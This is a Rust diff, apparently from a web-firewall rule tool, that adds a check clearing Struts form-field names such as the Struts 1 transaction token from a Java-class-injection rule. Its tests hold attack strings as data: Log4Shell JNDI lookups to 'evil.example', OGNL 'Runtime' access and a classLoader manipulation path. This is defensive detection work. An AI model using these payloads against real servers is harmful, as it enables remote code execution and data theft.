@@ -20,6 +20,50 @@ pub fn unresolved(value: &[u8], hit: Range<usize>) -> Option<String> {
     })
 }
 
+/// The first names of the packages CRS 944130 lists classes of (`org.apache.struts`, `java.io.File`).
+const PACKAGE_ROOTS: &[&str] = &["com", "org", "java", "javax", "sun", "freemarker"];
+
+/// Why the class or package that the pattern's `hit` found at the start of a parameter's name reaches no class:
+/// the name is a dotted path of plain identifiers (`org.apache.struts.taglib.html.TOKEN`, the transaction token
+/// every form of a Struts 1 application carries), going on past the package. `value` is the name itself (`names`), or a form body whose
+/// pair the name starts (after `&` or at the start, ending at `=`). Struts 2 reads a parameter's name as an
+/// OGNL expression, and there `org.apache...` is a chain of the action's properties; a class is reached only
+/// through OGNL's syntax (`@java.lang.Runtime@getRuntime()`, `#context`, `(...)`, `['...']`), or through the
+/// properties' own path (`class.classLoader...`), which starts with no package. A class named in a value still
+/// counts: an application may load the class a value names.
+pub fn package_path_name(value: &[u8], hit: Range<usize>, names: bool) -> Option<String> {
+    let starts_pair = hit.start == 0 || value.get(hit.start.wrapping_sub(1)) == Some(&b'&');
+    let rest = value.get(hit.start..)?;
+    let end = rest
+        .iter()
+        .position(|&b| b == b'=' || b == b'&')
+        .unwrap_or(rest.len());
+    let name = &rest[..end];
+    let ends_name = if names {
+        hit.start == 0 && end == rest.len()
+    } else {
+        rest.get(end) == Some(&b'=')
+    };
+    // A name that is a listed class or package itself is a probe's (scanners send each class as a name); a form
+    // field named after the framework that writes it goes on past the package into names of its own.
+    let goes_on = name.get(hit.len()) == Some(&b'.') && name.len() > hit.len() + 1;
+    let plain_path = name.split(|&b| b == b'.').all(|part| {
+        part.first()
+            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
+            && part.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
+    });
+    let root = name.split(|&b| b == b'.').next()?;
+    let package = PACKAGE_ROOTS
+        .iter()
+        .any(|package| root.eq_ignore_ascii_case(package.as_bytes()));
+    (starts_pair && ends_name && goes_on && package && plain_path).then(|| {
+        format!(
+            "the parameter's name `{}` is a path of plain names from a package: no expression reaches a class through it",
+            String::from_utf8_lossy(name).chars().take(80).collect::<String>()
+        )
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -32,5 +76,29 @@ mod tests {
         assert!(unresolved(b"${ctx:loginId}", 0..5).is_none());
         assert!(unresolved(b"${${ctx:x:-j}ndi:ldap://evil.example/a}", 2..7).is_none());
         assert!(unresolved(b"${jndi:ldap://evil.example/a}", 0..6).is_none());
+    }
+
+    #[test]
+    fn a_name_that_starts_with_a_package_reaches_no_class() {
+        let token = b"org.apache.struts.taglib.html.TOKEN";
+        assert!(package_path_name(token, 0..17, true).is_some());
+        let form = b"nome=Ana&org.apache.struts.taglib.html.TOKEN=9f8e&cpf=1";
+        assert!(package_path_name(form, 9..26, false).is_some());
+        // A listed class as the whole name, a value naming a class, OGNL's syntax, a path from a property.
+        assert!(package_path_name(b"java.io.File", 0..12, true).is_none());
+        assert!(package_path_name(b"java.io.File=test", 0..12, false).is_none());
+        assert!(package_path_name(b"cls=org.apache.struts.Foo", 4..21, false).is_none());
+        assert!(
+            package_path_name(
+                b"class.classLoader.resources.dirContext.docBase",
+                6..17,
+                true
+            )
+            .is_none()
+        );
+        assert!(package_path_name(b"@java.lang.Runtime@getRuntime()", 1..10, true).is_none());
+        assert!(package_path_name(b"java.lang.Runtime@getRuntime()", 0..9, true).is_none());
+        assert!(package_path_name(b"org.apache.struts2.dispatcher['x']", 0..18, true).is_none());
+        assert!(package_path_name(b"org.apache.struts2.x[0]=1", 0..18, false).is_none());
     }
 }
